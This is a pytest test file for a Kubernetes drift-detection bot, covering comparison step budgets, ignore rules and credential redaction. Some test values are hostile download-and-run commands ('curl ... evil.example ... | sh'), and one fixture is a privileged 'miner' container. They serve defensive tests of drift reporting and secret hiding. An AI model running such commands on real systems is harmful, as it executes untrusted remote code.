"""Objects, ignore rules and field managers that make a comparison slow or large: only their object becomes unknown."""

import json
import time
import tracemalloc
from collections import Counter
from contextlib import nullcontext, suppress
from dataclasses import replace
from types import SimpleNamespace

import pytest

from bot import http_client
from bot.adapters.kubernetes import bounds
from bot.adapters.kubernetes.cluster import KubernetesCluster
from bot.core.applications import flux_values
from bot.core.applications.application import Application
from bot.core.applications.argocd import read_application
from bot.core.applications.discovery import UnsupportedResourceError
from bot.core.applications.flux_values import release_values
from bot.core.applications.resource_ref import ResourceRef
from bot.core.changes.rendered_change import rendered_change
from bot.core.drift.bounded import MAX_VALUES, with_bounded_values
from bot.core.drift.compare import compare_object
from bot.core.drift.differences import new_or_escalated, persisting
from bot.core.drift.fact import facts
from bot.core.drift.ignore_rules import IgnoreRule, rules_for
from bot.core.drift.lists import without_automatic_tolerations
from bot.core.drift.model import FieldDrift, ObjectDrift
from bot.core.drift.parts import AlignmentBudget, split
from bot.core.drift.permissions import changed_permissions
from bot.core.drift.severity import Reason, rate
from bot.core.git.repository_ref import RepositoryRef
from bot.core.objects import credential_names, step_budget
from bot.core.objects.credentials import HIDDEN
from bot.core.objects.managed_fields import LAST_APPLIED
from bot.core.objects.manifest import Manifest, read_manifests
from bot.core.objects.redaction import HIDE, Redaction
from bot.core.objects.schema import Schemas
from bot.core.objects.step_budget import SharedStepBudget, StepBudget, TooManyStepsError
from bot.core.pull_requests.adopt import adopt
from bot.core.pull_requests.adopt_kustomize import adopt_overlay
from bot.core.pull_requests.not_adoptable import NotAdoptableError
from bot.handlers.drift import comparison_cache
from bot.handlers.drift.comparison_cache import CacheKey, CompareOptions, ComparisonCache
from bot.handlers.drift.live_comparison import compare_live
from bot.i18n.language import ENGLISH
from bot.messages import incident
from bot.ports.cluster import Discovery, Kind
from bot.ports.isolation import UnexpectedError
from tests.hostile.test_cluster import CONFIG_MAPS, config_map, head, kubeconfig, page, serving
from tests.hostile.test_patterns import GROWTH, cpu_limit
from tests.messages.samples import OPEN

THINGS = Kind("example.com", "v1", "Thing", "things", namespaced=True)
DEPLOYMENTS = Kind("apps", "v1", "Deployment", "deployments", namespaced=True)


def thing(name="web", **fields):
    return {"apiVersion": "example.com/v1", "kind": "Thing", "metadata": {"name": name, "namespace": "shop"}, **fields}


def manifest(declared):
    metadata = declared["metadata"]
    return Manifest(declared["apiVersion"], declared["kind"], "shop", metadata["name"], declared, "thing.yaml", 1)


def managed(live, *entries):
    fields = {"operation": "Apply", "fieldsType": "FieldsV1"}
    return live | {"metadata": live["metadata"] | {"managedFields": [{**fields, **entry} for entry in entries]}}


def numbered(count, value="x"):
    return {f"k{number}": value for number in range(count)}


def many_values(rule):
    """Every one of 100 values differs, and one value is a list of 100 texts."""
    texts = [f"x{number}" for number in range(100)]
    return thing(spec=numbered(100), texts=texts), thing(spec=numbered(100, "y"), texts=texts), rule


def nested_lists(count):
    """Lists without their keys in git: each item may be any of the cluster's, which have more."""

    def deployment(**more):
        containers = [{"image": "i", "env": [{"value": "v", **more}] * count, **more}] * count
        return {
            **thing(),
            "apiVersion": "apps/v1",
            "kind": "Deployment",
            "spec": {"template": {"spec": {"containers": containers}}},
        }

    return deployment(), deployment(name="n"), IgnoreRule()


def many_managers(count):
    writers = [{"manager": f"m{number}", "fieldsV1": {"f:spec": {}}} for number in range(count)]
    return thing(spec=numbered(count)), managed(thing(spec=numbered(count, "y")), *writers), IgnoreRule()


def many_nested_secrets(count):
    secrets = [{"kind": "Secret", "data": {"a": "x"}} for _ in range(count)]
    return thing(spec=numbered(count), items=secrets), thing(spec=numbered(count, "y"), items=secrets), IgnoreRule()


CONTAINS = ".texts | select(contains(.))"
SLOW = {
    "an expression that compares each part with each": many_values(IgnoreRule(jq_path_expressions=(CONTAINS,))),
    "an expression that compares large values": many_values(
        IgnoreRule(jq_path_expressions=(".spec | select((.,.,.,.,.,.,.,.,.,.) | (.,.,.,.,.,.,.,.,.,.) | . == .)",))
    ),
    "many pointers": many_values(IgnoreRule(json_pointers=tuple(f"/spec/k{number}" for number in range(40)))),
    "many managers in rules": many_values(IgnoreRule(managed_fields_managers=tuple(numbered(200)))),
    "many nested lists": nested_lists(12),
    "many field managers": many_managers(200),
    "many nested Secrets": many_nested_secrets(100),
    "many differences below a long key": (
        thing(spec={"x.[" * 1_000: numbered(50)}),
        thing(spec={"x.[" * 1_000: numbered(50, "y")}),
        IgnoreRule(json_pointers=("/metadata/name",)),
    ),
}


class Cluster:
    """A cluster that holds these things."""

    name = "prod"

    def __init__(self, *live):
        self._live = live

    def discover(self):
        return Discovery({(kind.api_version, kind.kind): kind for kind in (THINGS, DEPLOYMENTS)}, {})

    def schema(self, _api_version):
        return None

    def list(self, kind, _namespace, read):
        return {("shop", live["metadata"]["name"]): read(live) for live in self._live if live["kind"] == kind.kind}


@pytest.fixture
def few_steps(monkeypatch):
    """A hundredth of the steps, for objects that are a hundredth of what would use all."""
    for name in ("FREE_STEPS", "MAX_STEPS", "MAX_SHARED_STEPS"):
        monkeypatch.setattr(step_budget, name, getattr(step_budget, name) // 200)
    monkeypatch.setattr(SharedStepBudget.__init__, "__defaults__", (step_budget.MAX_SHARED_STEPS, 0))


def used(*counts, shared=None, size=0):
    """The budget of a comparison that has taken so many steps."""
    budget = StepBudget(lambda: size, shared or SharedStepBudget())
    for count in counts:
        budget.take(count)
    return budget


def test_a_comparison_takes_as_many_steps_as_allowed_and_no_more():
    shared = SharedStepBudget()
    used(10_000, 250, shared=shared, size=1_000)
    assert shared.steps == 20_000_000  # those are free
    most = (10_000, 1_999_000, 1_000)  # a comparison takes them from those of the check a thousand at a time
    for _ in range(10):
        budget = used(*most, shared=shared)
    for count in (budget.take, lambda: used(*most, 1), lambda: used(10_000, 1, shared=shared)):
        with pytest.raises(TooManyStepsError):
            count()


def test_a_check_keeps_as_many_characters_as_allowed_and_no_more():
    shared = SharedStepBudget()
    budget = StepBudget(shared=shared)
    assert budget.may_keep("x" * (64_000_000 - 10))  # each value counts as ten more
    assert not budget.may_keep("x")
    shared.kept = 128_000_000 - 300 - len("spec")
    budget.keep_difference("spec")
    with pytest.raises(TooManyStepsError):
        budget.keep_difference("")


@pytest.mark.parametrize(("declared", "live", "rule"), SLOW.values(), ids=SLOW)
def test_a_slow_comparison_makes_only_its_object_unknown(few_steps, declared, live, rule):
    del few_steps
    applications = [
        Application(name, RepositoryRef("platform"), name, "prod", "shop", "C1", ignore=ignore)
        for name, ignore in (("slow", (rule,)), ("shop", ()))
    ]
    manifests = [manifest(declared), manifest(thing("cart", spec={"replicas": 2}))]
    cluster = Cluster(live, thing("cart", spec={"replicas": 7}))
    compared = compare_live(cluster, list(zip(manifests, applications, strict=True)))
    try:
        error = compared.comparison_of(manifests[0], applications[0]).incomplete
    except UnexpectedError as slow_rules:
        error = slow_rules.text
    assert "the comparison takes too long" in str(error)
    assert [field.live for field in compared.comparison_of(manifests[1], applications[1]).drift.fields] == [7]


LONG_KEYS = [f"{'-' * 240}{number:05}" for number in range(500)]
SLOW_TEXT = "://" + ":" * 196  # to search for credentials
SLOW_FILES = {f"k{number}": SLOW_TEXT * 655 for number in range(7)}


@pytest.mark.parametrize(
    ("data", "rule", "is_shown"),
    [
        (dict.fromkeys(LONG_KEYS, "x"), IgnoreRule(json_pointers=[f"/data/{key}" for key in LONG_KEYS[:200]]), True),
        (dict.fromkeys((SLOW_TEXT + str(number) for number in range(1_200)), "x"), IgnoreRule(), True),
        ({f"k{number}": f"{number}=::" * 12 for number in range(15_000)}, IgnoreRule(), True),
        (SLOW_FILES, IgnoreRule(), False),
        (SLOW_FILES, IgnoreRule(jq_path_expressions=('.data | select(.k1 != "") | .k1',)), False),
    ],
    ids=["long keys and pointers", "slow keys", "short values", "slow values", "slow values and an expression"],
)
def test_searching_for_credentials_takes_steps(data, rule, is_shown):
    live = thing(data=data)
    declared = manifest(thing(data={key: f"{value}y" for key, value in data.items()}))
    steps = StepBudget(lambda: step_budget.json_size(live), SharedStepBudget())
    with cpu_limit(8):
        result = compare_object(declared, live, schema=Schemas(), ignore=[rule], steps=steps)
    if result.incomplete:
        assert "the comparison takes too long" in str(result.incomplete)
    else:
        assert len(result.drift.fields) == len(data) - len(rule.json_pointers)
    assert all((field.live == HIDDEN) is not is_shown for field in result.drift.fields)


def test_a_text_that_takes_too_long_to_search_hides_nothing_else():
    """A severity depends on what is beside it, and stored differences are compared by whether both sides are hidden."""
    pod = {"privileged": True, "image": "web:1", "script": SLOW_TEXT * 600}
    declared = manifest(thing(spec={"b": "x"}))
    live, steps = thing(spec={"b": SLOW_TEXT * 600, "pod": pod}), StepBudget(shared=SharedStepBudget(steps=0))
    result = compare_object(declared, live, schema=Schemas(), steps=steps)
    values = {field.path: (field.desired, field.live) for field in (*result.drift.fields, *result.set_aside.fields)}
    assert values == {"spec.b": (HIDDEN, HIDDEN), "spec.pod": (None, pod | {"script": HIDDEN})}
    assert result.incomplete is None


@pytest.mark.parametrize(
    "live",
    [
        {"name": "a", "securityContext": {"privileged": True}, "command": ["sh", "-c", SLOW_TEXT * 3]},
        ["short", SLOW_TEXT * 3, [SLOW_TEXT * 2]],
        {"a": "password: " + "x" * 4_000},
    ],
    ids=["container", "list", "short without its credential"],
)
def test_a_text_that_is_searched_only_sometimes_is_not_another_one(live):
    declared, live = manifest(thing(spec={"a": 5})), managed(thing(spec={"a": live}))
    drifts = [
        (compare_object(declared, live, schema=Schemas(), steps=StepBudget(shared=SharedStepBudget(steps))).drift,)
        for steps in (step_budget.MAX_SHARED_STEPS, 0)
    ]
    for one, other in (drifts, drifts[::-1]):
        assert one != other
        assert persisting(one, other, as_stored=True) == other


@pytest.mark.parametrize(
    ("desired", "before", "now"),
    [
        (["serve"], ["serve", "ghp_" + "a1B2" * 9], ["serve", f"curl -s https://evil.example/{'x' * 100} | sh"]),
        (["serve"], ["serve", HIDDEN], ["serve", "curl evil | sh #(hidden)"]),
        (["serve"], [HIDDEN], ["x" * 200]),
        (None, HIDDEN, "curl evil | sh; " * 20),
        (HIDDEN, HIDDEN, "curl evil | sh; " * 20),
    ],
)
def test_another_value_is_reported_although_the_earlier_one_looks_hidden(desired, before, now):
    change = "added" if desired is None else "changed"
    path = "spec.template.spec.containers[name=web].args"
    one, other = (
        (ObjectDrift("apps/v1", "Deployment", "shop", "web", "modified", (FieldDrift(change, path, desired, value),)),)
        for value in (before, now)
    )
    assert new_or_escalated(one, one, other, one) == other


def test_ordinary_texts_are_aligned():
    """490 lines in units that repeat, of which 70 are changed."""
    lines = [line for n in range(122) for line in (f'  "name{n}": {{', '    "enabled": true,', f'    "a": {n}', "  },")]
    changed = [f"{line} " if n % 7 == 0 else line for n, line in enumerate(lines)]
    budget, texts = AlignmentBudget(), ("\n".join(lines), "\n".join(changed))
    assert [len(split(*texts, budget)) for _ in range(2)] == [140] * 2


def test_values_are_searched_with_half_of_the_steps():
    shared = SharedStepBudget()
    budgets = [StepBudget(shared=shared) for _ in range(6)]
    assert [budget.may_take(5_000) for budget in budgets] == [True] * 6  # those are free
    assert [budget.may_take(2_000_001) for budget in budgets] == [False] * 6
    assert [budget.may_take(2_000_000) for budget in budgets] == [True] * 5 + [False]
    assert shared.steps == 10_000_000


def settings(count, side):
    return {f"app.setting.number.{number}": f"https://h{number}.{side}.example.com:8080" for number in range(count)}


SLOW_VALUES = {f"k{number}": f"{number}=::" * 12 for number in range(9_000)}


def test_texts_that_are_slow_to_search_make_no_other_application_unknown():
    """Those of the same tenant can still have some differences, those of another tenant many."""
    names = [*(f"slow{number}" for number in range(10)), "small", "large"]
    before = [*[SLOW_VALUES] * 10, settings(20, "a"), settings(5_000, "a")]
    after = [{key: f"{value}y" for key, value in data.items()} for data in before]
    manifests = [manifest(thing(name, data=data)) for name, data in zip(names, after, strict=True)]
    origins = [ResourceRef("Argo CD", "Application", "prod", tenant, "a") for tenant in ["shop"] * 11 + ["cart"]]
    applications = [
        Application(name, RepositoryRef("platform"), name, "prod", "shop", "C1", origin=origin)
        for name, origin in zip(names, origins, strict=True)
    ]
    cluster = Cluster(*(thing(name, data=data) for name, data in zip(names, before, strict=True)))
    compared = compare_live(cluster, list(zip(manifests, applications, strict=True)))
    results = [compared.comparison_of(*each) for each in zip(manifests, applications, strict=True)]
    assert [result.incomplete is None for result in results] == [False] * 10 + [True] * 2
    assert [len(result.drift.fields) for result in results[10:]] == [20, 5_000]


@pytest.mark.parametrize("lines", [3_700, 4_000])
def test_a_change_of_a_file_that_takes_long_to_search_is_one_change(lines):
    file = "".join(f"a{number}: b\n" for number in range(lines)) * 2
    before, after = (manifest(thing(data={"file": text})) for text in (file, f"{file}c: d\n"))
    change = rendered_change([before], [after], namespace="shop")
    assert [field.path for item in change.objects for field in item.fields] == ["data.file"]


def test_an_incomplete_comparison_is_cached_if_the_next_one_is_the_same():
    for shared, is_cached in ((SharedStepBudget(), True), (SharedStepBudget(steps=1_000), False)):
        cache, compared = ComparisonCache(), []
        live = thing(data={key: f"{value}y" for key, value in SLOW_VALUES.items()})
        declared = thing(data=SLOW_VALUES)
        key = CacheKey(declared, ("1",), None, replica_ranges=(), options=CompareOptions())

        def compare(shared=shared, compared=compared, live=live, declared=declared):
            compared.append(live)
            return compare_object(manifest(declared), live, schema=Schemas(), steps=StepBudget(shared=shared))

        results = [cache.get_or_compare((), key, compare) for _ in range(2)]
        assert all(result.incomplete for result in results)
        assert len(compared) == 2 - is_cached


def test_slow_comparisons_make_no_ordinary_one_unknown(few_steps):
    """When the steps that all share are used up, each comparison still has its own."""
    del few_steps
    shared = SharedStepBudget(steps=0)
    declared, live, rule = SLOW["many field managers"]
    assert compare_object(
        manifest(declared), live, schema=Schemas(), ignore=[rule], steps=StepBudget(shared=shared)
    ).incomplete
    ordinary = manifest(thing(spec={"replicas": 2}))
    result = compare_object(ordinary, thing(spec={"replicas": 7}), schema=Schemas(), steps=StepBudget(shared=shared))
    assert result.drift


@pytest.mark.parametrize(
    ("rule", "drift"),
    [
        (IgnoreRule(), ["spec.level", "spec.size"]),
        (IgnoreRule(json_pointers=("/spec/level",)), ["spec.size"]),
        (IgnoreRule(jq_path_expressions=(".spec.level",)), ["spec.size"]),
        (IgnoreRule(jq_path_expressions=(".spec | select(.size != 2) | .level",)), ["spec.level", "spec.size"]),
        (IgnoreRule(paths=("spec.level",)), ["spec.size"]),
        (IgnoreRule(paths=("spec",)), []),
    ],
)
def test_what_is_added_does_not_hide_what_is_changed(few_steps, rule, drift):
    del few_steps
    writers = [{"manager": f"kubectl-{number}", "fieldsV1": {"f:added": {}}} for number in range(200)]
    live = managed({"added": numbered(200), **thing(spec={"level": "evil"})}, *writers)
    declared = manifest(thing(spec={"level": "info", "size": 1}))
    result = compare_object(declared, live, schema=Schemas(), ignore=[rule])
    assert "the comparison takes too long" in str(result.incomplete)
    assert [field.path for field in result.drift.fields] == ["metadata.managedFields", *drift]


@pytest.mark.parametrize(("count", "drift"), [(100, []), (101, ["metadata.managedFields"])])
def test_an_incomplete_comparison_with_many_field_managers_is_drift(monkeypatch, count, drift):
    monkeypatch.setattr(step_budget, "FREE_STEPS", 0)
    live = managed(thing(), *({"manager": f"m{number}", "fieldsV1": {"f:added": {}}} for number in range(count)))
    steps = StepBudget(shared=SharedStepBudget(steps=0))
    result = compare_object(manifest(thing()), live, schema=Schemas(), steps=steps)
    assert result.incomplete
    assert [field.path for field in (result.drift.fields if result.drift else ())] == drift


def test_a_field_manager_for_each_field_takes_no_shared_steps():
    count = 2_000
    writers = [
        {"manager": f"kubectl-{number}", "fieldsV1": {"f:spec": {f"f:k{number}": {}}}} for number in range(count)
    ]
    live, shared = managed(thing(spec=numbered(count)), *writers), SharedStepBudget()
    budget = StepBudget(lambda: step_budget.json_size(live), shared)
    result = compare_object(manifest(thing(spec={"level": "info"})), live, schema=Schemas(), steps=budget)
    assert [len(result.drift.fields), result.incomplete] == [count + 1, None]
    assert shared.steps == step_budget.MAX_SHARED_STEPS


def test_an_object_in_sync_is_not_searched_for_credentials(monkeypatch):
    monkeypatch.setattr(Redaction, "of", lambda *_: pytest.fail("searched"))
    rule = IgnoreRule(json_pointers=("/spec/a",), jq_path_expressions=(".spec | select(.a == 1)",))
    assert compare_object(manifest(thing(spec={"a": 1})), thing(spec={"a": 1}), schema=Schemas(), ignore=[rule])


@pytest.mark.parametrize("item", ["{}", '{"name":"miner"}'])
def test_a_last_applied_annotation_hides_nothing(item):
    declared = {**thing(), "apiVersion": "apps/v1", "kind": "Deployment"}
    pod = {"containers": [{"name": "web", "image": "web:1"}]}
    env = [{"name": name} for name in numbered(300)]
    miner = {"name": "miner", "securityContext": {"privileged": True}, "env": env}
    items = ",".join([item] * (250_000 // len(item)))
    annotations = {LAST_APPLIED: f'{{"spec":{{"template":{{"spec":{{"containers":[{items}]}}}}}}}}'}
    live = managed(
        declared
        | {"metadata": declared["metadata"] | {"annotations": annotations}}
        | {"spec": {"template": {"spec": {"hostPID": True, "containers": [*pod["containers"], miner]}}}},
        {"manager": "kubectl-edit", "operation": "Update", "fieldsV1": {"f:spec": {}}},
    )
    desired = manifest(declared | {"spec": {"template": {"spec": pod}}})
    result = compare_object(desired, live, schema=Schemas())
    assert [field.path.rpartition(".")[2] for field in result.drift.fields] == ["containers[name=miner]", "hostPID"]
    assert result.incomplete is None


def test_a_large_object_takes_no_shared_steps():
    count = 20_000
    declared = thing(spec=numbered(count), items=[{"name": f"i{number}"} for number in range(count)])
    fields = {f'k:{{"name":"i{number}"}}': {".": {}, "f:name": {}} for number in range(count)}
    live = managed(
        declared | {"spec": numbered(count) | {"k0": "y"}}, {"manager": "m", "fieldsV1": {"f:items": fields}}
    )
    shared = SharedStepBudget()
    rule = IgnoreRule(jq_path_expressions=(".spec.k0[]?",))
    steps = StepBudget(lambda: step_budget.json_size(live), shared)
    result = compare_object(manifest(declared), live, schema=Schemas(), ignore=[rule], steps=steps)
    assert [field.path for field in result.drift.fields] == ["spec.k0"]
    assert shared.steps == step_budget.MAX_SHARED_STEPS


def test_a_slow_change_is_said_by_its_fields_without_values(few_steps):
    del few_steps
    declared, live, _ = SLOW["many nested lists"]
    live["spec"]["paused"] = True
    (change,) = rendered_change([manifest(declared)], [manifest(live)], namespace="shop").objects
    assert [(field.path, field.before, field.after) for field in change.fields] == [("spec", HIDDEN, HIDDEN)]


def test_the_rules_of_one_resource_are_bounded():
    def application(entries, **entry):
        source = {"repoURL": "https://git.example/x", "path": "x"}
        spec = {"source": source, "ignoreDifferences": [{"kind": "A", **entry}] * entries}
        return {"metadata": {"namespace": "argocd", "name": "web"}, "spec": spec}

    (most,) = read_application(application(250, jsonPointers=["/spec"]), "prod")
    (more,) = read_application(application(251, jsonPointers=["/spec"]), "prod")
    (broken,) = read_application(application(1, jsonPointers=["spec"] * 499), "prod")
    (braces,) = read_application(application(100, namespace="{a,b}" * 7), "prod")
    assert (len(most.ignore), most.notes) == (250, ())
    assert len(more.ignore) == 250
    assert "beyond that limit, 1 in total" in str(more.notes[0])
    assert len(broken.notes) == 20
    assert len(braces.ignore) == 50_000 // (128 * 7)
    assert "more than 50,000 characters in total" in str(braces.notes[0])


def test_patterns_of_ignore_rules_take_steps():
    """500 rules with three patterns each took 14 s for an object, and 2,500 steps."""
    patterns = [f"{{web,{number}}}{'{,a}' * 6}" for number in range(500)]
    rules = [IgnoreRule(kind=f"{{Deployment,{text}}}", name=text, json_pointers=("/spec",)) for text in patterns]
    declared = manifest({**SLOW["many nested lists"][0]})
    start = time.thread_time()
    with pytest.raises(TooManyStepsError):
        rules_for(rules, declared, [], StepBudget())
    assert time.thread_time() - start < 6
    few = StepBudget()
    for _ in range(100):
        rules_for(rules[:1], declared, [], few)
    assert few._left > 0


@pytest.mark.parametrize(("bound", "most"), [("_MAX_REFERENCES", 50), ("_MAX_NODES", 100)])
def test_a_helm_release_has_as_many_values_as_allowed_and_no_more(monkeypatch, bound, most):
    def read(count):
        entries = [{"kind": "ConfigMap", "name": "a"}] * (count if bound == "_MAX_REFERENCES" else 1)
        data = {"values.yaml": f"a: [{'1, ' * (count - 5)}]\n"}  # and two of a mapping, two of a list, and a key
        return release_values(
            {"valuesFrom": entries}, ResourceRef("Flux", "HelmRelease", "p", "n", "a"), lambda *_: data
        )

    monkeypatch.setattr(flux_values, "_MAX_NODES", 100 if bound == "_MAX_NODES" else 300_000)
    assert read(most)
    with pytest.raises(UnsupportedResourceError, match=r"has more than 50 entries|the values in a are"):
        read(most + 1)


@pytest.mark.parametrize("values", ["shared: {a: 1}\n", "shared: ["])
def test_values_that_many_releases_share_are_parsed_once(monkeypatch, values):
    """And one release's parameters change nothing for the others."""
    parsed, parse = [], flux_values.read_documents
    monkeypatch.setattr(flux_values, "read_documents", lambda *arguments: parsed.append(1) or parse(*arguments))
    cache = flux_values.ValuesCache()
    values_from = [{"kind": "ConfigMap", "name": "a"}]
    parameter = [{"kind": "ConfigMap", "name": "a", "valuesKey": "one", "targetPath": "shared.a"}]

    def read(entries):
        with suppress(UnsupportedResourceError):
            data = {"values.yaml": values, "one": "2"}
            return release_values(
                {"valuesFrom": entries}, ResourceRef("Flux", "HelmRelease", "p", "n", "a"), lambda *_: data, cache
            ).values

    read_values = [read(entries) for entries in (values_from, values_from + parameter, values_from)]
    one, two = '{"shared": {"a": 1}}', '{"shared": {"a": 2}}'
    assert read_values == ([one, two, one] if "}" in values else [None] * 3)
    assert len(parsed) == 1


# ---------------------------------------------------------------- credentials


def secret(**fields):
    return {"kind": "Secret", **fields}


# Where an object may have a credential, and the jq path to it.
HIDING_PLACES = {
    "a Secret": (lambda value: secret(apiVersion="v1", data={"a": value}), ".data.a"),
    "an annotation": (lambda value: secret(apiVersion="v1", metadata=annotated(a=value)), ".metadata.annotations.a"),
    "another group's Secret": (lambda value: secret(spec={"a": value}), ".spec.a"),
    "a SealedSecret": (lambda value: {"kind": "SealedSecret", "spec": {"data": {"a": value}}}, ".spec.data.a"),
    "a Secret in a list": (lambda value: {"spec": {"items": [secret(data={"a": value})]}}, ".spec.items[0].data.a"),
    "a key": (lambda value: {"kind": "ConfigMap", "data": {"DB_PASSWORD": value}}, ".data.DB_PASSWORD"),
    "a file": (lambda value: {"kind": "ConfigMap", "data": {"a": f"password: {value}"}}, ".data.a"),
    "a variable": (lambda value: {"spec": {"env": [{"name": "TOKEN", "value": value}]}}, ".spec.env[0].value"),
    "an argument": (lambda value: {"spec": {"args": ["--token", value]}}, ".spec.args[1]"),
    "a list": (lambda value: {"spec": {"tokens": [value]}}, ".spec.tokens[0]"),
    "a hidden path": (lambda value: {"metadata": annotated(**{HIDE: "spec.a"}), "spec": {"a": value}}, ".spec.a"),
    "what was applied": (
        lambda value: {"metadata": annotated(**{LAST_APPLIED: f'{{"data":{{"a":"{value}"}}}}'})},
        f'.metadata.annotations["{LAST_APPLIED}"]',
    ),
}
GUESSES = (
    '{} | startswith("hun")',
    '{} | startswith("password: hun")',
    '{} | endswith("ter2")',
    '{} | contains("unt")',
    '{} == "hunter2"',
    '{} < "i"',
    '"i" > {}',
    '{} >= "password: i" and true',
)


def annotated(**annotations):
    return {"name": "web", "namespace": "shop", "annotations": annotations}


def labelled(declared, value):
    return {
        **thing(),
        **declared,
        "metadata": {**thing()["metadata"], **declared.get("metadata", {}), "labels": {"a": value}},
    }


def compared_with(place, password, *expressions):
    """What is shown of the differences between a wrong declaration and an object with this password."""
    make, _ = HIDING_PLACES[place]
    rule = IgnoreRule(jq_path_expressions=expressions)
    declared, live = labelled(make("wrong"), "declared"), labelled(make(password), "live")
    result = compare_object(manifest(declared), live, schema=Schemas(), ignore=[rule])
    return result.drift, result.set_aside, result.incomplete


@pytest.mark.parametrize("place", HIDING_PLACES)
@pytest.mark.parametrize("guess", GUESSES)
def test_no_condition_tells_one_credential_from_another(place, guess):
    """Whether what it selects is ignored must not depend on whether a guess at a part of it is right."""
    path = HIDING_PLACES[place][1]
    condition = guess.format(path)
    for expression in (
        f"select({condition}) | {path}",
        f"select({condition} | not) | {path}",
        f"select({condition}) | .metadata.labels.a",
        f"select({condition} | not) | .metadata.labels.a",
    ):
        assert compared_with(place, "hunter2", expression) == compared_with(place, "swordfish", expression)


BY_ID = 'k:{"id":1}'
MANY = {f"a{number}": number for number in range(30)}
SURROUNDINGS = {
    "a field": lambda value: {"a": value},
    "an item": lambda value: {"items": [{"id": 1, **value} if isinstance(value, dict) else {"id": 1, "a": value}]},
    "in an item": lambda value: {"items": [{"id": 1, "a": value}]},
}


@pytest.mark.parametrize("around", SURROUNDINGS.values(), ids=SURROUNDINGS)
@pytest.mark.parametrize(
    ("declared", "live"),
    [
        ({"data": {"a": "wrong"}}, secret(data={"a": "hunter2"})),
        ({"kind": "Config"}, secret(data={"a": "hunter2"})),
        (secret(metadata=annotated(a="wrong")), secret(metadata=annotated(a="hunter2"))),
        ({"name": "TOKEN", "value": "wrong"}, {"name": "TOKEN", "value": "hunter2"}),
        ({"name": "x", "value": "wrong"}, {"name": "TOKEN", "value": "hunter2"}),
        ([{"name": "TOKEN"}], [{"name": "TOKEN", "value": "hunter2"}]),
        ([{"key": "TOKEN"}], [{"key": "TOKEN", "value": "hunter2"}]),
        ({"name": "TOKEN"}, {"name": "x", "value": "hunter2"}),
        ([{}], [{"name": "TOKEN", "value": "hunter2"}]),
        ([{"a": 1}, {"a": 2}], [{"a": 2}, {"a": 1, "name": "TOKEN", "value": "hunter2"}]),
        ([{"a": 1, "name": "TOKEN"}, {"a": 2}], [{"a": 2}, {"a": 1, "name": "TOKEN", "value": "hunter2"}]),
        (["app", "--token", None], ["app", "--token", "hunter2"]),
        (["docker", "login", "-u", "ci", "-p", None], ["docker", "login", "-u", "ci", "-p", "hunter2"]),
        ({"value": {}, **MANY}, {"name": "TOKEN", "value": {"k": "hunter2"}, **MANY}),
        ([["app", "--token", None], ["a"]], [["a"], ["app", "--token", "hunter2"]]),
    ],
)
def test_no_declaration_makes_a_hidden_value_an_ordinary_one(declared, live, around):
    owned = {"f:spec": {"f:a": {BY_ID: {}}, "f:items": {BY_ID: {"f:a": {BY_ID: {}}}}}}
    there = managed(thing(spec=around(live)), {"manager": "m", "fieldsV1": owned})
    result = compare_object(manifest(thing(spec=around(declared))), there, schema=Schemas())
    assert "hunter2" not in repr(result)
    assert HIDDEN in repr(result)


@pytest.mark.parametrize("place", HIDING_PLACES)
def test_a_path_to_a_credential_ignores_it(place):
    label, path = ".metadata.labels.a", HIDING_PLACES[place][1]
    by_name = 'select(.metadata.name == "web" and .metadata.labels.a != "other")'
    assert compared_with(place, "hunter2", label, f"{by_name} | {path}")[0] is None


@pytest.mark.parametrize(("levels", "count"), [(1, 2_000), (90, 19)])
def test_names_beside_many_differences_are_not_searched_for_each(monkeypatch, levels, count):
    searched = Counter()
    is_credential_name = credential_names.is_credential_name
    monkeypatch.setattr(
        credential_names, "is_credential_name", lambda name: searched.update([name]) or is_credential_name(name)
    )

    def values(value):
        below = numbered(200, value)
        for _ in range(levels):
            below = {**{f"a{number}": "x" for number in range(count)}, "value": below}
        return thing(spec=below)

    result = compare_object(manifest(values(1)), values(2), schema=Schemas())
    assert (len(result.drift.fields), result.incomplete) == (200, None)
    assert 0 < searched["x"] <= 2 * levels * count


@pytest.mark.parametrize("place", [place for place in HIDING_PLACES if place not in ("a file", "what was applied")])
def test_a_condition_can_ask_whether_there_is_a_credential(place):
    path = HIDING_PLACES[place][1]
    assert compared_with(place, "hunter2", ".metadata.labels.a", f"select({path} != null) | {path}")[0] is None


@pytest.mark.parametrize("place", [place for place in HIDING_PLACES if place not in ("a file", "what was applied")])
@pytest.mark.parametrize(
    "condition",
    ['{} != "x"', "{} >= 0", '{} | startswith("x") | not', '{} | endswith("x") | not', '{} | contains("x") | not'],
)
def test_a_condition_that_a_credential_decides_ignores_nothing(place, condition):
    path = HIDING_PLACES[place][1]
    drift, _, _ = compared_with(place, "hunter2", ".metadata.labels.a", f"select({condition.format(path)}) | {path}")
    assert len(drift.fields) == 1


# ---------------------------------------------------------------- memory


def test_a_value_that_is_set_aside_is_not_kept():
    live = thing(spec={"size": "x" * 1_000_000})
    result = compare_object(manifest(thing()), live, schema=Schemas(), explain=False)
    assert [(field.path, field.live) for field in result.set_aside.fields] == [("spec", None)]
    assert result.size < 1_000


def test_the_differences_of_a_check_are_bounded(monkeypatch):
    monkeypatch.setattr(step_budget, "MAX_KEPT", 4_000)
    monkeypatch.setattr(step_budget, "MAX_KEPT_VALUES", 1_500)
    shared = SharedStepBudget()
    declared, live = manifest(thing(spec={"a": "x"})), thing(spec={"a": "y" * 500})
    results = [compare_object(declared, live, schema=Schemas(), steps=StepBudget(shared=shared)) for _ in range(100)]
    values = [result.drift.fields[0].live for result in results if not result.incomplete]
    assert [result.drift for result in results if result.incomplete] == [None] * 89
    assert values == ["y" * 500, *[HIDDEN] * 10]


def test_unknown_fields_are_not_kept():
    schemas = Schemas()
    for start in range(0, 20_000, 5_000):
        live = thing(**{f"field{number}": 1 for number in range(start, start + 5_000)})
        assert compare_object(manifest(thing()), live, schema=schemas).set_aside
    assert len(schemas.node("example.com/v1", "Thing").struct) <= 1_000


def test_a_cache_keeps_no_more_than_one_check(monkeypatch):
    monkeypatch.setattr(comparison_cache, "MAX_KEPT", 10_000)
    cache = ComparisonCache()
    declared, live = thing(spec={"a": "x"}), thing(spec={"a": "y" * 1_000})
    key = CacheKey(declared, ("1",), None, replica_ranges=(), options=CompareOptions())
    sizes = []
    for number in range(100):
        cache.get_or_compare((number,), key, lambda: compare_object(manifest(declared), live, schema=Schemas()))
        sizes.append(len(cache))
    assert max(sizes) == 10_000 // compare_object(manifest(declared), live, schema=Schemas()).size


NAMES = [f"n{number}" for number in range(3_000)]


@pytest.mark.parametrize(
    "rules",
    [
